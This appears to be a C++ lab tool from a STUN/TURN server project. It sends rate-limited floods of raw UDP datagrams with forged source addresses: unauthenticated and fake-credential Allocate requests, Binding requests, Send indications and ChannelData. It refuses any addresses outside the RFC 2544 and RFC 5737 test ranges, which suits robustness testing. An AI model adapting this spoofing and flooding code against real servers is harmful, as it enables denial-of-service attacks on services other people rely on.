// lab_flood: what a stranger with a fast machine and forged source addresses sends to a STUN and
// TURN server. Raw IPv4 datagrams, each from another address and port of a /16 or smaller: Binding
// requests, Allocate without credentials, Allocate with made-up ones, Send indications and
// ChannelData without an allocation, in turn.
//
//   lab_flood SOURCE_NETWORK/BITS DESTINATION:PORT PACKETS_PER_SECOND SECONDS
//
// Bounded by both numbers, and only ever between addresses that no network routes: it refuses
// sources outside 198.18.0.0/15 (RFC 2544) and destinations outside 198.51.100.0/24 (RFC 5737).
// Prints one JSON line when it is done: {"sent":…,"refused":…,"seconds":…}.

#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <charconv>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <optional>
#include <random>
#include <span>
#include <string_view>
#include <vector>

#include "protocol/base/endpoint.hpp"
#include "stun/credentials.hpp"
#include "stun/message.hpp"

namespace {

using namespace nat;
namespace attr = stun::attr;

constexpr std::size_t batch = 64;
constexpr std::size_t header_bytes = sizeof(iphdr) + sizeof(udphdr);
constexpr unsigned most_per_second = 1'000'000, most_seconds = 120;

class weak_random final : public random_source {  // nothing here is secret
 public:
  void fill(byte_span out) override {
    for (auto& octet : out) octet = static_cast<std::byte>(engine_());
  }
  std::uint32_t number() { return static_cast<std::uint32_t>(engine_()); }

 private:
  std::mt19937 engine_{20'260'101};
};

struct order {
  std::uint32_t network = 0, hosts = 0;  // host byte order; how many addresses
  endpoint to;
  unsigned per_second = 0, seconds = 0;
};

std::optional<std::uint32_t> number_of(const address& a) {
  const auto text = to_string(a);
  in_addr out{};
  if (::inet_pton(AF_INET, text.c_str(), &out) != 1) return std::nullopt;
  return ntohl(out.s_addr);
}

std::optional<unsigned> natural(std::string_view text, unsigned most) {
  unsigned value = 0;
  const auto [end, error] = std::from_chars(text.data(), text.data() + text.size(), value);
  if (error != std::errc{} || end != text.data() + text.size() || value == 0 || value > most) {
    return std::nullopt;
  }
  return value;
}

std::optional<order> read_order(std::span<char*> arguments) {
  if (arguments.size() != 5) return std::nullopt;
  const std::string_view source(arguments[1]);
  const auto slash = source.find('/');
  if (slash == std::string_view::npos) return std::nullopt;
  const auto network = parse_address(source.substr(0, slash));
  const auto bits = natural(source.substr(slash + 1), 30);
  const auto to = parse_endpoint(arguments[2]);
  const auto rate = natural(arguments[3], most_per_second);
  const auto seconds = natural(arguments[4], most_seconds);
  if (!network || !bits || *bits < 16 || !to || !rate || !seconds) return std::nullopt;
  const auto from = number_of(*network), there = number_of(to->ip);
  if (!from || !there) return std::nullopt;
  if (*from >> 17 != 0xc612'0000U >> 17 || *there >> 8 != 0xc633'6400U >> 8) return std::nullopt;
  return order{*from, 1U << (32 - *bits), *to, *rate, *seconds};
}

// The messages, made once; identifiers and forged nonces differ only between templates, which a
// server can't tell from forgeries made one by one.
std::vector<bytes> make_messages(random_source& random) {
  std::vector<bytes> out;
  std::array<std::byte, 512> buffer;
  const auto start = [&](stun::method method, stun::kind kind) {
    return stun::message_writer(buffer, {method, kind}, stun::make_transaction_id(random));
  };
  for (int i = 0; i < 16; ++i) {
    out.push_back(to_bytes(*start(stun::method::binding, stun::kind::request).finish()));
    auto bare = start(stun::method::allocate, stun::kind::request);
    out.push_back(to_bytes(*bare.put<attr::requested_transport>(17).finish()));
    auto forged = start(stun::method::allocate, stun::kind::request);
    forged.put<attr::requested_transport>(17).put<attr::username>("4102444800:mallory");
    const auto nonce = "obMatJos2AAAB" + random_text(random, 24);
    forged.put<attr::realm>("rendezvous").put<attr::nonce>(nonce);
    bytes key(16);
    random.fill(key);
    out.push_back(to_bytes(*forged.finish_signed(key)));
    auto send = start(stun::method::send, stun::kind::indication);
    send.put<attr::xor_peer_address>(*parse_endpoint("203.0.113.10:4000"));
    out.push_back(to_bytes(*send.put<attr::data>(as_bytes("unasked")).finish()));
    bytes channel(4 + 160);
    channel[0] = std::byte{0x40};
    channel[3] = std::byte{160};
    out.push_back(std::move(channel));
  }
  return out;
}

// One datagram with its headers. No UDP checksum: IPv4 allows to leave it out (RFC 768).
bytes make_packet(byte_view payload, const order& o) {
  bytes out(header_bytes + payload.size());
  iphdr ip{};
  ip.version = 4;
  ip.ihl = 5;
  ip.ttl = 64;
  ip.protocol = IPPROTO_UDP;
  ip.tot_len = htons(static_cast<std::uint16_t>(out.size()));
  ip.daddr = htonl(*number_of(o.to.ip));
  udphdr udp{};
  udp.dest = htons(o.to.port);
  udp.len = htons(static_cast<std::uint16_t>(sizeof udp + payload.size()));
  std::memcpy(out.data(), &ip, sizeof ip);
  std::memcpy(out.data() + sizeof ip, &udp, sizeof udp);
  std::memcpy(out.data() + header_bytes, payload.data(), payload.size());
  return out;
}

void forge_source(bytes& packet, const order& o, weak_random& random) {
  const auto from = htonl(o.network + random.number() % o.hosts);
  const auto port = htons(static_cast<std::uint16_t>(1024 + random.number() % 60'000));
  std::memcpy(packet.data() + offsetof(iphdr, saddr), &from, sizeof from);
  std::memcpy(packet.data() + sizeof(iphdr) + offsetof(udphdr, source), &port, sizeof port);
}

struct outcome {
  std::uint64_t sent = 0, refused = 0;
  double seconds = 0;
};

// Packets are sent when they are due; a machine that is too slow sends fewer, never later ones in
// a burst of more than a tenth of a second.
outcome flood(int socket, const order& o) {
  using clock = std::chrono::steady_clock;
  weak_random random;
  std::vector<bytes> packets;
  for (const auto& message : make_messages(random)) packets.push_back(make_packet(message, o));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(*number_of(o.to.ip));
  std::array<std::array<std::byte, 1024>, batch> slots;
  std::array<iovec, batch> pieces{};
  std::array<mmsghdr, batch> out{};
  outcome result;
  std::uint64_t tried = 0, skipped = 0;
  const auto began = clock::now();
  while (true) {
    result.seconds = std::chrono::duration<double>(clock::now() - began).count();
    if (result.seconds >= o.seconds) return result;
    const auto due = static_cast<std::uint64_t>(result.seconds * o.per_second);
    const auto most_late = o.per_second / 10;
    if (due > tried + skipped + most_late) skipped = due - tried - most_late;
    if (due < tried + skipped + batch) {
      ::poll(nullptr, 0, 1);
      continue;
    }
    for (std::size_t i = 0; i < batch; ++i) {
      auto& packet = packets[(tried + i) % packets.size()];
      forge_source(packet, o, random);
      std::memcpy(slots[i].data(), packet.data(), packet.size());
      pieces[i] = {slots[i].data(), packet.size()};
      out[i].msg_hdr = {&to, sizeof to, &pieces[i], 1, nullptr, 0, 0};
    }
    const int n = ::sendmmsg(socket, out.data(), batch, 0);
    tried += batch;
    if (n > 0) result.sent += static_cast<unsigned>(n);
    result.refused += batch - static_cast<std::size_t>(n > 0 ? n : 0);
  }
}

}  // namespace

int main(int argc, char** argv) {
  const auto o = read_order(std::span(argv, static_cast<std::size_t>(argc)));
  if (!o) {
    std::fputs("usage: lab_flood 198.18.0.0/16 198.51.100.N:PORT PACKETS_PER_SECOND SECONDS\n",
               stderr);
    return 2;
  }
  const int socket = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (socket < 0) {
    std::fprintf(stderr, "lab_flood: failed to open a raw socket: %s\n", std::strerror(errno));
    return 1;
  }
  const auto done = flood(socket, *o);
  ::close(socket);
  std::printf("{\"sent\":%llu,\"refused\":%llu,\"seconds\":%.3f}\n",
              static_cast<unsigned long long>(done.sent),
              static_cast<unsigned long long>(done.refused), done.seconds);
}
